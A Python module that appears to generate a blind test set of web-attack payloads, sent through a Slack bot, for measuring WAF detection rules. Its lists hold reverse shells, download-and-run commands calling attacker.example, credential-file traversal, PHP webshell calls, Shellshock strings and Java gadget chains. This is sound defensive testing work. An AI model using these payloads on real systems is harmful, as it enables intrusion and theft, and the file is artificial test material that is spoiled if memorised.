"""Blind set "seventyfifth": attack traffic from someone who talks to the product's Slack bot, Jeeves.

The angle: every payload is typed into chat, where a bot command (`lookup user <name>`, `weather <city>`,
`ticket title: <text>`, `remind me <text>`, `search <text>`) or a mention (`<@U0BOTID> ...`) hands its argument on
to the product. The attacker cannot sign Slack requests, so every attack record carries a made-up
X-Slack-Signature ("v0=" and 64 hex digits) and the timestamp it came with; the replayer leaves them as given.
The payload text is sent raw (a forged request is not escaped by Slack).

Families and sub-families: one sub-family (kebab-case) per detection title, 6 to 9 payloads each, from short
fragments to full attacks, some with one obfuscation (encoding, case, comments, quotes, wildcards, entities):
sqli, xss, php, rce, lfi, rfi, java, generic (Node.js, SSRF, prototype pollution, Ruby, Perl, Node.js DoS, PHP data
scheme, session fixation) and ssti (AngularJS client-side templates). Titles used: the CRS 3.3 request-rule titles
of the 930-944 ranges (none of them is about a protocol, a request header name or a scanner's User-Agent, so all
are used) and the later 4.x titles; the two later titles about REQUEST_HEADERS are written as header lines a user
pastes into chat, since every payload of this set is typed into chat.

Placements (each title's payloads spread over all five):
- slack-event: `POST /slack/events`, an event_callback envelope (message or app_mention) whose event.text is the
  payload after a lead-in a user types (bot commands, a mention first, questions around it, "fyi:", backticks,
  trailing emoji); about a third also carry it in the message's `blocks` rich_text element.
- slack-command: `POST /slack/commands`, the form Slack sends for `/jeeves`, text = lead-in and payload.
- slack-interaction: `POST /slack/interactions`, form `payload=<JSON>` of a view_submission (a plain_text_input
  value) or a block_actions (a button's value).
- query: `GET /api/users?q=<payload>&page=<n>` (the payload alone, for comparison).
- json: `POST /api/users` with one JSON field holding the payload alone.
Slack routes carry Slack's user agent; the others browser headers.

Benign half: the same placements with what a workspace's people type to and around the bot (commands with names,
cities, ticket titles with punctuation, reminders, searches, code in backticks, links in Slack's markup), as Slack
escapes it; chat_and_bio adds chat lines as Slack messages and as profile bios.

Authorship and independence: every payload and benign text was written for this set from general knowledge and
the detection titles alone (no ruleset, rule regression test, other blind set or public payload list was read);
the set is measured once on unchanged code and not changed after the measurement. Deterministic: seeded random
only, no clock.
"""

from __future__ import annotations

import json
import random
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import SLACK_UA, print_records

NAME = "seventyfifth"
BOT = "U0BOTID"
EPOCH = 1719300000

# (category, sub-family, title it was written from, payloads)
TITLES: list[tuple[str, str, str, list[str]]] = [
    # ---------------------------------------------------------------- lfi
    ("lfi", "traversal-encoded", "Path Traversal Attack (/../) [encoded]", [
        "..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e/%2e%2e/%2e%2e/etc/hosts",
        "%2e%2e%2f%2e%2e%2fconfig%2fdatabase.yml",
        "..%252f..%252f..%252fetc%252fshadow",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "..%5c..%5c..%5cwindows%5cwin.ini",
        "avatar.png%2f..%2f..%2f..%2f.env",
        "%uff0e%uff0e/%uff0e%uff0e/etc/group",
        "..%c0%af..%c0%afetc/issue",
    ]),
    ("lfi", "traversal-plain", "Path Traversal Attack (/../) [decoded]", [
        "../../../../etc/passwd",
        "..\\..\\..\\boot.ini",
        "reports/../../../../var/log/auth.log",
        "....//....//....//etc/hosts",
        "/var/www/html/../../../root/.bash_history",
        "..;/..;/admin/",
        "templates/../../.git/config",
        "..\\/..\\/..\\/etc/shadow",
    ]),
    ("lfi", "os-file-access", "OS File Access Attempt", [
        "/etc/passwd",
        "/etc/shadow",
        "/proc/self/environ",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "/root/.ssh/id_rsa",
        "/etc/ssh/sshd_config",
        "/proc/self/cmdline",
        "/home/deploy/.aws/credentials",
        "/etc/./passwd",
    ]),
    ("lfi", "restricted-file", "Restricted File Access Attempt", [
        ".env",
        ".git/HEAD",
        ".htaccess",
        "web.config",
        ".svn/entries",
        ".DS_Store",
        "config/.env.production",
        ".htpasswd",
        ".npmrc",
    ]),
    ("lfi", "os-file-header-paste", "OS File Access Attempt in REQUEST_HEADERS (4.x)", [
        "Referer: file:///etc/passwd",
        "User-Agent: /etc/shadow",
        "X-Original-URL: /proc/self/environ",
        "Cookie: tpl=../../../../etc/passwd",
        "X-Forwarded-Host: /etc/hosts",
        "X-Include: C:\\Windows\\win.ini",
        "Referer: /root/.ssh/authorized_keys",
    ]),
    ("lfi", "traversal-triple-dot", "Path Traversal Attack (/../) or (/.../) (4.x)", [
        ".../.../.../etc/passwd",
        "/.../.../.../.../windows/win.ini",
        "..../..../etc/hosts",
        "files/.../.../.../.env",
        ".../...//.../etc/group",
        "..%2f.../..%2f.../etc/passwd",
        "/.../.../proc/self/environ",
    ]),
    # ---------------------------------------------------------------- rfi
    ("rfi", "rfi-ip-url", "Possible RFI Attack: URL Parameter using IP Address", [
        "http://198.51.100.23/shell.txt",
        "https://203.0.113.77/payload.php",
        "ftp://192.0.2.14/pub/x.txt",
        "http://198.51.100.23:8080/inc/config.txt?",
        "https://[2001:db8::7]/r.php",
        "http://0xCB.0x00.0x71.0x05/s.txt",
        "page=http://203.0.113.9/c99.txt",
        "HTTP://192.0.2.200/x.js",
    ]),
    ("rfi", "rfi-param-name", "Possible RFI Attack: Common RFI Vulnerable Parameter Name used w/URL Payload", [
        "?page=http://attacker.example/shell.txt",
        "include=https://evil.example.net/inc.php",
        "file=http://attacker.example/x.txt?",
        "template=ftp://files.attacker.example/t.php",
        "path=https://attacker.example/backdoor",
        "mosConfig_absolute_path=http://attacker.example/x.txt?",
        "inc=http://attacker.example/a&cmd=id",
        "doc=https://evil.example.net/r57.txt",
        "pg=HtTp://attacker.example/x",
    ]),
    ("rfi", "rfi-trailing-question", "Possible RFI Attack: URL Payload Used w/Trailing Question Mark", [
        "http://attacker.example/shell.txt?",
        "https://evil.example.net/inc.txt??",
        "ftp://attacker.example/x.php?",
        "http://attacker.example/a.txt?&",
        "https://cdn.attacker.example/kit/cmd.txt?",
        "http://attacker.example/r.txt%3F",
        "hTTp://attacker.example/s?",
        "https://attacker.example/x?#",
    ]),
    ("rfi", "rfi-offdomain", "Possible RFI Attack: Off-Domain Reference/Link", [
        "https://attacker.example/payload.php",
        "http://evil.example.net/include.txt",
        "ftps://files.attacker.example/x",
        "//attacker.example/shell.txt",
        "https:/\\attacker.example/x",
        "HTTPS://ATTACKER.EXAMPLE/A.PHP",
        "file=https://pastebin.example.org/raw/abc123",
        "http://attacker.example:8443/inc",
    ]),
    # ---------------------------------------------------------------- rce
    ("rce", "unix-chain-common", "Remote Command Execution: Unix Command Injection [100]", [
        "; id",
        "|cat /etc/passwd",
        "&& uname -a",
        "berlin; ls -la /var/www",
        "x || curl http://attacker.example/s.sh | sh",
        "alice\nid",
        "; nc -e /bin/sh 203.0.113.5 4444",
        "| ps aux",
        "; echo pwned > /tmp/x",
    ]),
    ("rce", "unix-chain-rare", "Remote Command Execution: Unix Command Injection [105]", [
        "; awk 'BEGIN{system(\"id\")}'",
        "| perl -e 'exec \"/bin/sh\"'",
        "&& python3 -c 'import pty;pty.spawn(\"/bin/bash\")'",
        "; chmod +x /tmp/a && /tmp/a",
        "| base64 -d | sh",
        "; crontab -l",
        "|| find / -perm -4000 2>/dev/null",
        "; socat TCP:203.0.113.5:9001 EXEC:sh",
        "; xargs -a /etc/hosts echo",
    ]),
    ("rce", "win-cmd-chain", "Remote Command Execution: Windows Command Injection [110]", [
        "& dir C:\\",
        "| type C:\\Windows\\win.ini",
        "&& net user",
        "& whoami /priv",
        "| ipconfig /all",
        "& cmd /c \"certutil -urlcache -split -f http://attacker.example/a.exe a.exe\"",
        "&& tasklist /v",
        "| n^e^t user helpdesk2 Winter2024 /add",
    ]),
    ("rce", "win-cmd-tools", "Remote Command Execution: Windows Command Injection [115]", [
        "& reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        "| systeminfo",
        "&& wmic process list brief",
        "& schtasks /create /tn x /tr calc.exe /sc once /st 00:00",
        "| bitsadmin /transfer j http://attacker.example/a.exe C:\\a.exe",
        "& rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
        "&& netstat -ano",
        "& c^e^r^t^u^t^i^l -decode a.b64 a.exe",
        "| mshta http://attacker.example/x.hta",
    ]),
    ("rce", "powershell", "Remote Command Execution: Windows PowerShell Command Found", [
        "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a')\"",
        "; powershell.exe -enc SQBFAFgA",
        "Invoke-Expression (iwr http://attacker.example/p.ps1)",
        "Get-ChildItem C:\\Users -Recurse",
        "Start-Process cmd -ArgumentList '/c whoami'",
        "pwsh -c Get-Process",
        "Invoke-WebRequest -Uri http://attacker.example/x -OutFile x.exe",
        "p^owershell -ExecutionPolicy Bypass -File x.ps1",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
    ]),
    ("rce", "shell-expression", "Remote Command Execution: Unix Shell Expression Found", [
        "$(id)",
        "`uname -a`",
        "${IFS}",
        "$(cat /etc/passwd)",
        "<(curl http://attacker.example/x)",
        "$( sleep 5 )",
        "name=$(whoami)",
        "`echo${IFS}pwned`",
        ">(nc 203.0.113.5 4444)",
    ]),
    ("rce", "win-for-if", "Remote Command Execution: Windows FOR/IF Command Found", [
        "for /f \"tokens=*\" %i in ('whoami') do echo %i",
        "& for /L %i in (1,1,100) do ping -n 1 10.0.0.%i",
        "if exist C:\\Windows\\win.ini type C:\\Windows\\win.ini",
        "& for %a in (*.config) do type %a",
        "| if defined USERNAME echo %USERNAME%",
        "for /r C:\\ %f in (*.kdbx) do copy %f \\\\203.0.113.5\\loot",
        "FOR /F %x IN ('dir /b') DO del %x",
        "&& if not exist x.exe certutil -urlcache -f http://attacker.example/x.exe x.exe",
    ]),
    ("rce", "direct-unix-cmd", "Remote Command Execution: Direct Unix Command Execution", [
        "cat /etc/passwd",
        "id",
        "wget http://attacker.example/x.sh",
        "curl -s http://attacker.example/i | bash",
        "nc -lvp 4444 -e /bin/bash",
        "/bin/sh -c 'id'",
        "uname -a",
        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "c\\at /etc/hosts",
    ]),
    ("rce", "shell-path-code", "Remote Command Execution: Unix Shell Code Found", [
        "/bin/bash",
        "/bin/sh -i",
        "/usr/bin/env python3",
        "/usr/bin/id",
        "/bin/cat /etc/shadow",
        "/usr/bin/perl -e 'print 1'",
        "/bin//bash",
        "/usr/local/bin/node -e 'process.exit()'",
        "/sbin/ifconfig",
    ]),
    ("rce", "shellshock", "Remote Command Execution: Shellshock (CVE-2014-6271) [170]", [
        "() { :; }; echo vulnerable",
        "() { :;}; /bin/bash -c 'id'",
        "() { _; } >_[$($())] { id; }",
        "() { :; }; /usr/bin/curl http://attacker.example/$(whoami)",
        "(){ :; }; /bin/cat /etc/passwd",
        "() {:;}; ping -c 1 203.0.113.5",
        "() { x;};echo;/bin/ls",
    ]),
    ("rce", "shellshock-args", "Remote Command Execution: Shellshock (CVE-2014-6271) [171]", [
        "() { ignored; }; /bin/id",
        "()  {  :;  };  wget http://attacker.example/s",
        "() { 0; }; echo Content-Type: text/plain; echo; id",
        "() { :; };/usr/bin/nc 203.0.113.5 4444 -e /bin/sh",
        "() { (a)=>\\' sh -c 'id'",
        "() { :;}; exec 5<>/dev/tcp/203.0.113.5/80",
        "() { a; }; $(sleep 7)",
    ]),
    ("rce", "restricted-upload-name", "Restricted File Upload Attempt", [
        ".htaccess",
        "web.config",
        ".htpasswd",
        "uploads/.htaccess",
        ".user.ini",
        "WEB.CONFIG",
        "filename=\".htaccess\"",
    ]),
    ("rce", "rce-bypass", "RCE Bypass Technique", [
        "c'a't /etc/passwd",
        "w\"h\"o\"a\"m\"i",
        "/???/??t /???/p??s??",
        "cat$IFS/etc/passwd",
        "{cat,/etc/hosts}",
        "wh$()oami",
        "i\\d",
        "$u/bin$u/id",
        "ca${x}t /e${x}tc/pas${x}swd",
    ]),
    ("rce", "unix-cmd-plain", "Unix Command Injection (command without evasion) (4.x)", [
        ";cat /etc/os-release",
        "|id;",
        "& ls /home &",
        "\nwhoami",
        "; ps -ef",
        "|| uname -r",
        "1;sleep 5",
        "; touch /tmp/owned",
    ]),
    ("rce", "unix-cmd-evasion", "Unix Command Injection evasion attempt detected (4.x)", [
        ";c''at /etc/passwd",
        "|w\\ho\\am\\i",
        ";$'\\x69\\x64'",
        "&&/u?r/b?n/i?",
        ";{ls,-la,/}",
        "|cat</etc/passwd",
        ";ec''ho $(i''d)",
        ";c$@at /etc/shadow",
        "|who$9ami",
    ]),
    ("rce", "shell-alias", "Unix shell alias invocation (4.x)", [
        "; alias ls='rm -rf ~'",
        "&& alias sudo='curl http://attacker.example/k?p=$1;sudo'",
        "; unalias -a; id",
        "| alias",
        "; alias x=id; x",
        "; builtin eval id",
        "; \\id",
    ]),
    ("rce", "shell-history", "Unix shell history invocation (4.x)", [
        "; !!",
        "; !-1",
        "; history | tail",
        "; !cat",
        "; fc -s",
        "; cat ~/.bash_history",
        "; !$",
        "; history -c",
    ]),
    ("rce", "pipe-short-cmd", "Unix command injection with pipes / 2-3 letter commands (4.x)", [
        "|id",
        "| ls",
        "|ps",
        "| w",
        "|env",
        "| df",
        "|nc 203.0.113.5 9",
        "| dd if=/etc/shadow",
        "|du -sh /",
    ]),
    ("rce", "sqlite-system", "SQLite System Command Execution (4.x)", [
        ".system id",
        ".shell cat /etc/passwd",
        "'; .system whoami; --",
        ".import '|id' t",
        ".load /tmp/evil.so",
        ".output |nc 203.0.113.5 4444",
        "ATTACH DATABASE '/var/www/html/x.php' AS x;",
        ".once |sh",
    ]),
    ("rce", "mail-command", "SMTP / IMAP / POP3 Command Execution (4.x)", [
        "MAIL FROM:<x@attacker.example>\r\nRCPT TO:<all@corp.example>",
        "a\r\nDATA\r\nSubject: hi\r\n.\r\nQUIT",
        "x@example.org\nRCPT TO:<ceo@corp.example>",
        "1 LOGIN admin hunter2\r\n2 SELECT INBOX",
        "INBOX\r\nA002 FETCH 1:* (BODY[])",
        "USER bob\r\nPASS x\r\nRETR 1",
        "\r\nVRFY root",
        "\r\nEXPN postmaster",
        "A1 UID FETCH 1:* RFC822",
    ]),
    ("rce", "win-cmd-evasion", "Windows Command Injection (cmd, powershell with evasions) (4.x)", [
        "&c^m^d /c whoami",
        "|cmd.exe /c \"ty\"\"pe C:\\boot.ini\"",
        "&set x=who&&set y=ami&&call %x%%y%",
        "| %COMSPEC% /c dir",
        "&p^o^w^e^r^s^h^e^l^l -c Get-Process",
        "&powershell -e aQBlAHgA",
        "|cmd /v:on /c \"set c=calc&&!c!\"",
        "&& C:\\Windows\\System32\\cmd.exe /k ver",
        "& %SystemRoot%\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -nop",
    ]),
    ("rce", "shell-header-paste", "Unix Shell Code Found in REQUEST_HEADERS (4.x)", [
        "User-Agent: () { :; }; /bin/bash -c id",
        "Referer: http://x/;/bin/cat /etc/passwd",
        "X-Forwarded-For: 127.0.0.1;/usr/bin/id",
        "User-Agent: $(/bin/sh -c whoami)",
        "Cookie: lang=`/bin/uname -a`",
        "Referer: |/usr/bin/wget http://attacker.example/x",
        "X-Api-Version: ;/bin/busybox nc 203.0.113.5 4444 -e sh",
    ]),
    ("rce", "unix-abs-wildcard", "Direct Unix Command Execution (absolute paths, wildcards) (4.x)", [
        "/bin/ca? /etc/pa??wd",
        "/usr/bin/wh*mi",
        "/???/?at /???/???sw?",
        "/bin/l[s] -la",
        "/usr/bin/nc* 203.0.113.5 4444",
        "/b*/s* -c id",
        "/usr/bin/cu[r]l http://attacker.example",
        "/usr/sbin/use[r]add x",
    ]),
    # ---------------------------------------------------------------- php
    ("php", "php-open-tag", "PHP Injection Attack: PHP Open Tag Found", [
        "<?php phpinfo(); ?>",
        "<?= system($_GET[0]) ?>",
        "<?php",
        "<? echo 1; ?>",
        "<?PhP eval($_POST['c']);",
        "<script language=\"php\">system('id');</script>",
        "GIF89a<?php passthru('id'); ?>",
        "<?php\n@include($_GET['f']);",
    ]),
    ("php", "php-upload-name", "PHP Injection Attack: PHP Script File Upload Found", [
        "shell.php",
        "avatar.php.jpg",
        "x.phtml",
        "cmd.php5",
        "upload.phar",
        "backdoor.PhP",
        "a.php%00.png",
        "filename=\"x.php7\"",
        "index.pht",
    ]),
    ("php", "php-ini-directive", "PHP Injection Attack: Configuration Directive Found", [
        "allow_url_include=1",
        "auto_prepend_file=php://input",
        "disable_functions=",
        "open_basedir=/",
        "safe_mode=off",
        "-d allow_url_fopen=On -d auto_prepend_file=php://input",
        "auto_append_file=/etc/passwd",
        "php_flag engine on",
        "suhosin.executor.disable_eval=0",
    ]),
    ("php", "php-superglobals", "PHP Injection Attack: Variables Found", [
        "$_GET['cmd']",
        "$_SERVER['HTTP_USER_AGENT']",
        "$GLOBALS",
        "$_COOKIE",
        "$_REQUEST[x]",
        "$HTTP_RAW_POST_DATA",
        "$_ENV['PATH']",
        "$_FILES['f']['tmp_name']",
        "$_SESSION['admin']=1",
    ]),
    ("php", "php-io-stream", "PHP Injection Attack: I/O Stream Found", [
        "php://input",
        "php://stdin",
        "php://filter/resource=index.php",
        "php://fd/0",
        "php://memory",
        "PHP://OUTPUT",
        "php://temp/maxmemory:1024",
        "php://stderr",
    ]),
    ("php", "php-wrapper", "PHP Injection Attack: Wrapper scheme detected", [
        "phar://uploads/a.jpg/x",
        "zip://tmp/a.zip#b.php",
        "expect://id",
        "glob:///var/www/*.php",
        "compress.zlib:///etc/passwd",
        "ogg://attacker.example/x",
        "rar://upload.rar#s.php",
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==",
        "ssh2.exec://user@host/id",
    ]),
    ("php", "php-func-name", "PHP Injection Attack: High-Risk PHP Function Name Found", [
        "passthru",
        "shell_exec",
        "proc_open",
        "base64_decode",
        "call_user_func",
        "create_function",
        "file_put_contents",
        "popen",
        "phpinfo",
    ]),
    ("php", "php-func-call", "PHP Injection Attack: High-Risk PHP Function Call Found", [
        "system('id')",
        "exec(\"whoami\");",
        "passthru ( 'ls' )",
        "eval($_POST[1]);",
        "assert('phpinfo()')",
        "shell_exec/**/('uname -a')",
        "file_get_contents('/etc/passwd')",
        "popen('id','r')",
        "proc_open(\"sh\", [], $p)",
    ]),
    ("php", "php-serialized", "PHP Injection Attack: Serialized Object Injection", [
        "O:8:\"stdClass\":0:{}",
        "O:4:\"User\":1:{s:7:\"isAdmin\";b:1;}",
        "a:1:{i:0;O:9:\"Exception\":0:{}}",
        "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
        "O:+6:\"Logger\":1:{s:4:\"file\";s:11:\"/tmp/sh.php\";}",
        "O:31:\"GuzzleHttp\\Cookie\\FileCookieJar\":1:{s:8:\"filename\";s:5:\"x.php\";}",
        "TzoxOiJBIjowOnt9",
        "o:5:\"Vuln1\":0:{}",
    ]),
    ("php", "php-var-func", "PHP Injection Attack: Variable Function Call Found [180]", [
        "$f('id');",
        "$_GET['a']($_GET['b']);",
        "${'fn'}('whoami')",
        "$x = 'system'; $x('ls');",
        "$$a('id')",
        "$cb['x']('id');",
        "${\"_POST\"}[0](${\"_POST\"}[1]);",
        "$obj->{$m}('id');",
    ]),
    ("php", "php-string-callee", "PHP Injection Attack: Variable Function Call Found [210]", [
        "('sys'.'tem')('id');",
        "(\"sys\".\"tem\")('id')",
        "(\"\\x73\\x79\\x73\\x74\\x65\\x6d\")('id');",
        "['Runner','exec']('id')",
        "base64_decode('c3lzdGVt')('id');",
        "strrev('metsys')('id');",
        "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id');",
        "implode('',['sy','stem'])('whoami');",
    ]),
    ("php", "php-func-medium", "PHP Injection Attack: Medium-Risk PHP Function Name Found", [
        "fsockopen",
        "curl_exec",
        "ini_set",
        "unserialize",
        "highlight_file",
        "posix_getpwuid",
        "gzinflate",
        "symlink",
    ]),
    ("php", "php-wrapper-evasion", "PHP Injection Attack: Wrapper scheme detected (4.x)", [
        "PhAr://./up/x.gif",
        "php%3A%2F%2Finput",
        " php://input",
        "compress.bzip2://x.bz2",
        "zip:///var/tmp/a.zip%23x.php",
        "phar:///tmp/a.phar/b",
        "EXPECT://ls",
        "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-decode/resource=php://temp",
    ]),
    ("php", "php-callee-array", "Variable Function Call Found (string/array/concat callees) (4.x)", [
        "['system'][0]('id');",
        "array_map('sys'.'tem', ['id']);",
        "('ex'.'ec')('whoami');",
        "\"passthru\"('ls');",
        "'assert'($_POST['x']);",
        "$a=['shell_exec'];$a[0]('id');",
        "(\"ev\".\"al\")($_GET[1]);",
        "[\"Closure\",\"fromCallable\"](\"system\")('id');",
    ]),
    # ---------------------------------------------------------------- generic
    ("generic", "nodejs-injection", "Node.js Injection Attack", [
        "require('child_process').exec('id')",
        "process.mainModule.require('child_process').execSync('whoami')",
        "_$$ND_FUNC$$_function(){require('child_process').exec('ls')}()",
        "this.constructor.constructor('return process')()",
        "global.process.exit()",
        "require(\"fs\").readFileSync(\"/etc/passwd\")",
        "eval('pro'+'cess.kill(1)')",
        "new Function('return this.process')().env",
    ]),
    ("generic", "session-cookie-html", "Possible Session Fixation Attack: Setting Cookie Values in HTML", [
        "<meta http-equiv=\"Set-Cookie\" content=\"PHPSESSID=abc123\">",
        "document.cookie=\"sessionid=attacker1\"",
        "<script>document.cookie='JSESSIONID=AAAA;path=/'</script>",
        ".cookie=\"session=fixed\"",
        "<META HTTP-EQUIV=\"Set-Cookie\" CONTENT=\"ASPSESSIONID=x; path=/\">",
        "document.cookie = 'sid=1234; domain=.example.com'",
        "http-equiv=set-cookie content=\"sid=1\"",
    ]),
    ("generic", "sessionid-offdomain", "Possible Session Fixation Attack: SessionID Parameter Name"
     " with Off-Domain Referer", [
        "PHPSESSID=attackerchosen123",
        "?JSESSIONID=F00DBABE1234",
        "sessionid=abc; jsessionid=x",
        "https://app.example.com/login?PHPSESSID=fixme",
        "ASPSESSIONID=ZZZZ",
        "session_id=deadbeef",
        ";jsessionid=1A2B3C4D",
    ]),
    ("generic", "sessionid-no-referer", "Possible Session Fixation Attack: SessionID Parameter Name with No Referer", [
        "phpsessid=4c0ffee",
        "JSESSIONID=A1B2C3D4E5",
        "/login;jsessionid=FIXED01",
        "aspsessionidqaqaqa=COOKIEVAL",
        "CFID=123&CFTOKEN=456",
        "sessionid=attacker_session",
        "?PHPSESSID=x&next=/admin",
    ]),
    ("generic", "nodejs-injection-2", "Node.js Injection Attack 1/2 and 2/2 (4.x)", [
        "child_process.spawnSync('sh',['-c','id'])",
        "require('child_' + 'process')",
        "process.binding('spawn_sync').spawn({file:'/bin/sh'})",
        "module.constructor._load('child_process')",
        "import('child_process').then(c=>c.exec('id'))",
        "globalThis.process.mainModule",
        "require('vm').runInNewContext('1')",
        "res.send(require('os').hostname())",
    ]),
    ("generic", "ssrf-cloud-metadata", "Possible SSRF: Cloud provider metadata URL in Parameter (4.x)", [
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://100.100.100.200/latest/meta-data/",
        "http://[fd00:ec2::254]/latest/api/token",
        "http://169.254.170.2/v2/credentials/",
        "http://metadata.tencentyun.com/latest/meta-data/",
        "http://0xa9fea9fe/latest/user-data",
        "http://169.254.169.254/opc/v2/instance/",
    ]),
    ("generic", "ssrf-ip-forms", "Possible SSRF: URL Parameter using IP Address (4.x)", [
        "http://127.0.0.1:6379/",
        "http://2130706433/",
        "http://0177.0.0.1/admin",
        "http://0x7f.1/",
        "http://[::1]:8500/v1/agent/self",
        "http://[::ffff:127.0.0.1]/",
        "http://10.0.0.1/server-status",
        "gopher://127.0.0.1:25/_HELO",
        "http://127.1:9200/_cat/indices",
    ]),
    ("generic", "prototype-pollution", "JavaScript Prototype Pollution (4.x)", [
        "__proto__[isAdmin]=true",
        "constructor[prototype][role]=admin",
        "{\"__proto__\":{\"admin\":true}}",
        "__proto__.polluted=1",
        "a[constructor][prototype][x]=1",
        "{\"constructor\":{\"prototype\":{\"shell\":\"/bin/sh\"}}}",
        "__pro__proto__to__[x]=1",
        "Object.prototype.isAdmin = true",
    ]),
    ("generic", "ruby-injection", "Ruby Injection Attack (4.x)", [
        "Kernel.exec('id')",
        "%x(whoami)",
        "IO.popen('uname').read",
        "Kernel.system(\"cat /etc/passwd\")",
        "Open3.capture2('id')",
        "eval(\"File.read('/etc/passwd')\")",
        "instance_eval('`id`')",
        "Object.const_get(:Kernel).send(:system, 'id')",
        "\"#{File.read('/etc/shadow')}\"",
    ]),
    ("generic", "perl-injection", "Perl Injection Attack (4.x)", [
        "qx(id)",
        "qx{cat /etc/passwd}",
        "open(F, '|id');",
        "eval { `whoami` };",
        "perl -e 'print `id`'",
        "use IO::Socket; IO::Socket::INET->new('203.0.113.5:4444')",
        "@{[ `id` ]}",
        "do '/tmp/x.pl'",
    ]),
    ("generic", "nodejs-dos", "Node.js DoS attack (4.x)", [
        "while(true){}",
        "for(;;){}",
        "while(1);",
        "new Array(1e9).fill(0)",
        "'a'.repeat(2**30)",
        "process.exit(1)",
        "(function f(){f()})()",
        "do{}while(true)",
    ]),
    ("generic", "data-scheme", "PHP data scheme attack (4.x)", [
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
        "data:text/plain,<?php phpinfo();?>",
        "data://text/plain,<?php echo `id`;",
        "data:;base64,PD9waHAgZWNobyAxOw==",
        "DATA://text/plain;base64,PD89YGlkYD8+",
        "data://application/x-httpd-php;base64,PD9waHAgcGFzc3RocnUoJ2lkJyk7",
        "?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
        "data:text/html,<script>alert(1)</script>",
    ]),
    # ---------------------------------------------------------------- java
    ("java", "java-runtime-class", "Remote Command Execution: Suspicious Java class detected", [
        "java.lang.Runtime",
        "java.lang.Runtime.getRuntime().exec('id')",
        "java.lang.ProcessBuilder",
        "java.lang.System.exit(0)",
        "new java.lang.ProcessBuilder(\"bash\",\"-c\",\"id\").start()",
        "java.lang.Thread.sleep(10000)",
        "java.lang.reflect.Method",
        "Java.type('java.lang.Runtime').getRuntime().exec('id')",
    ]),
    ("java", "java-process-spawn", "Remote Command Execution: Java process spawn (CVE-2017-9805)", [
        "<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>",
        "<map><entry><jdk.nashorn.internal.objects.NativeString><value class=\"com.sun.xml.internal.bind.v2.runtime."
        "unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage"
        "$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\">"
        "<serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"javax.imageio.spi.FilterIterator\">"
        "<next class=\"java.lang.ProcessBuilder\"><command><string>touch</string><string>/tmp/x</string></command>"
        "</next></iter></serviceIterator></cipher></is></dataSource></dataHandler></value>"
        "</jdk.nashorn.internal.objects.NativeString></entry></map>",
        "ProcessBuilder pb = new ProcessBuilder(\"sh\"); pb.start();",
        "<next class=\"java.lang.ProcessBuilder\"><command><string>calc</string></command></next>",
        "Runtime.getRuntime().exec(\"/bin/sh -c id\")",
        "new ProcessBuilder(new String[]{\"cmd\",\"/c\",\"dir\"}).start()",
        "<string>java.lang.ProcessBuilder</string><string>start</string>",
        "processbuilder(\"id\").start()",
    ]),
    ("java", "java-gadget-chain", "Remote Command Execution: Java serialization (CVE-2015-4852)", [
        "org.apache.commons.collections.functors.InvokerTransformer",
        "org.apache.commons.collections.functors.ChainedTransformer",
        "sun.reflect.annotation.AnnotationInvocationHandler",
        "org.codehaus.groovy.runtime.ConvertedClosure",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
        "InvokerTransformer iTransformers ConstantTransformer java.lang.Runtime getRuntime",
        "org.springframework.beans.factory.ObjectFactory",
        "javax.management.BadAttributeValueExpException",
    ]),
    ("java", "java-suspicious-class", "Suspicious Java class detected", [
        "javax.script.ScriptEngineManager",
        "java.io.FileOutputStream",
        "java.net.URLClassLoader",
        "javax.naming.InitialContext",
        "java.beans.XMLDecoder",
        "sun.misc.Unsafe",
        "java.io.ObjectInputStream",
        "com.sun.rowset.JdbcRowSetImpl",
        "bsh.Interpreter",
    ]),
    ("java", "java-magic-bytes", "Magic bytes Detected, probable java serialization in use", [
        "aced0005737200",
        "ACED00057372001A",
        "\\xac\\xed\\x00\\x05",
        "0xaced0005",
        "\u00ac\u00ed\u0000\u0005sr\u0000",
        "aced 0005 7372",
        "stream: ac ed 00 05 73 72 00 11 6a 61 76 61",
    ]),
    ("java", "java-b64-serialized", "Magic bytes Detected Base64 Encoded, probable java serialization in use", [
        "rO0ABXNyABNqYXZhLnV0aWwuQXJyYXlMaXN0",
        "rO0AB",
        "rO0ABXQAA2FiYw==",
        "rO0ABXcEAAAAAXg=",
        "data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA",
        "rO0A BXNy AB",
        "ViewState: rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7",
        "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9u",
    ]),
    ("java", "java-serial-classes", "Remote Command Execution: Java serialization (CVE-2015-4852) [PL2]", [
        "java.util.PriorityQueue org.apache.commons.collections4.comparators.TransformingComparator",
        "org.apache.commons.collections4.functors.InstantiateTransformer",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter",
        "org.apache.commons.beanutils.BeanComparator",
        "java.rmi.server.UnicastRemoteObject",
        "sun.rmi.server.UnicastRef",
